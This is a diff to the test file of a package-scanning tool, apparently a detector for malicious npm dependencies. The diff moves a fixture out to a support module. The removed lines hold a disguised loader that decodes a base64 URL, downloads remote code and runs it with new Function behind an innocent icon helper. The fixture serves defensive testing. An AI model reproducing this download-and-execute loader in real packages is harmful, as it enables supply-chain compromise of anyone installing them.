@@ -14,25 +14,9 @@ import { renderAnnotations } from '../src/reporters/github.js';
 import type { ScanOptions } from '../src/options.js';
 import { ROOT, tempDir } from './helpers.js';
 import { publishPackage } from './support/registry-publish.js';
+import { LOADER_INDEX } from './support/dependency-loader.js';
 
 const BIN = path.join(ROOT, 'bin', 'lurescan.js');
-// The loader's address, base64 as the real ones keep it; the host is on a reserved name.
-const PAYLOAD_URL = Buffer.from('http://icons-cdn.invalid/api/ipcheck-encrypted/88').toString('base64');
-export const LOADER_INDEX = [
-  "const http = require('http');",
-  `const src = Buffer.from('${PAYLOAD_URL}', 'base64').toString();`,
-  'function fetchIcon(id) {',
-  "  return `icon-${id}.svg`;",
-  '}',
-  'http.get(src, (res) => {',
-  "  let body = '';",
-  "  res.on('data', (c) => (body += c));",
-  "  res.on('end', () => new Function('require', body)(require));",
-  '});',
-  'module.exports = { fetchIcon };',
-  '',
-].join('\n');
-
 describe('--deps (real Verdaccio)', function () {
   this.timeout(240_000);
   let reg: Verdaccio;
